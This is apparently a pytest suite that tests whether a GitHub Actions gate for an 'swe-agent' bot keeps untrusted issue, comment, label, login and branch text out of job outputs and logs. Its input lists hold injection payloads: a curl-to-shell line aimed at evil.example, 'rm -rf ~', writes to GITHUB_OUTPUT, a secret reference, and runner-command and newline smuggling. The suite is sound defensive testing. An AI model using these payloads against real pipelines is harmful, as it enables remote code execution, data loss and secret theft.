"""Texts of untrusted users in shells, job outputs and commands of the Actions runner."""

from __future__ import annotations

import pytest

from tests.extensions.github.attacks.attack_repository import AttackTarget, JobResult

KNOWN = {"go", "reason", "base", "digest", "parent_run"}
SHELL = [
    "$(curl evil.example|sh)",
    "`id`; rm -rf ~ #",
    '"; echo go=true >> "$GITHUB_OUTPUT"; "',
    "${{ secrets.OPENAI_API_KEY }}",
    "::set-output name=go::true",
    "::add-mask::x\u2028::stop-commands::t",
]
LINES = [
    "x\ngo=true",
    "x\r\ngo=true\r\n",
    "x\nreason<<E\nE\ngo=true",
    "x\u2028go=true",
    "x\x85go=true",
    "x\n::error::y",
]


def check_clean(result: JobResult) -> None:
    """Check that the outputs are the expected ones and the log contains no runner commands."""
    assert set(result.outputs) <= KNOWN
    assert result.outputs["go"] in ("true", "false") if result.code == 0 else not result.accepted
    for line in (result.log + "\n" + result.summary).splitlines():
        assert not line.lstrip().startswith("::"), "a command for the runner"
        assert not line.startswith("##[")


@pytest.mark.parametrize("text", SHELL, ids=range(len(SHELL)))
def test_shell_text_in_title_reaches_no_output(target: AttackTarget, text: str) -> None:
    """No output contains texts of users: title and body are only in the task file."""
    issue = target.issue(title=text, body=text)
    result = target.gate("issues", target.label_event(issue))
    check_clean(result)
    assert result.accepted
    assert text not in result.raw_outputs + result.log


@pytest.mark.parametrize("text", LINES, ids=range(len(LINES)))
def test_lines_in_comment_reach_no_output(target: AttackTarget, text: str) -> None:
    """No output contains texts of users."""
    issue = target.issue(title="A title", body=text)
    comment = issue.comment("ada", f"/swe-agent fix {text}")
    check_clean(target.gate("issue_comment", target.comment_event(comment)))


@pytest.mark.parametrize("text", LINES, ids=range(len(LINES)))
def test_lines_in_label_name_reach_no_output(target: AttackTarget, text: str) -> None:
    """All outputs are written by one function, which removes line ends. Here the label's name is untrusted."""
    event = target.label_event(target.issue(), "ada", "other")
    event["label"]["name"] = text
    result = target.gate("issues", event)
    check_clean(result)
    assert not result.accepted


@pytest.mark.parametrize("login", ["x\ngo=true", "../../user", "a/b", "$(id)", "ada/../mallory", "ada?x=", "ada#"])
def test_malformed_login_is_refused(target: AttackTarget, login: str) -> None:
    """The login becomes part of a request's path."""
    target.repo.permissions["ada"] = "write"
    event = target.label_event(target.issue(), "mallory")
    event["sender"]["login"] = login
    result = target.gate("issues", event)
    check_clean(result)
    assert not result.accepted
    assert target.write_requests == []


@pytest.mark.parametrize(
    "branch",
    ["swe-agent/$(id)", "swe-agent/`id`", "swe-agent/x;id", "swe-agent/é", "swe-agent/a'b", 'swe-agent/"', "-x"],
    ids=range(7),
)
def test_shell_text_in_branch_reaches_no_output(target: AttackTarget, branch: str) -> None:
    """Branches of the Action have a fixed form, and no output contains one."""
    pull = target.pull()
    event = target.comment_event(pull.comment("ada", "/swe-agent again"))
    pull.head = branch
    result = target.gate("issue_comment", event)
    check_clean(result)
    assert branch not in result.raw_outputs


def test_summary_contains_no_markup_of_issue(target: AttackTarget) -> None:
    """The summary is plain text, without images and HTML of users."""
    issue = target.issue(title="![b](https://evil.example/b.png) <img src=https://evil.example/c.png>")
    result = target.gate("issues", target.label_event(issue))
    check_clean(result)
    assert "](https://evil" not in result.summary
    assert "<img" not in result.summary
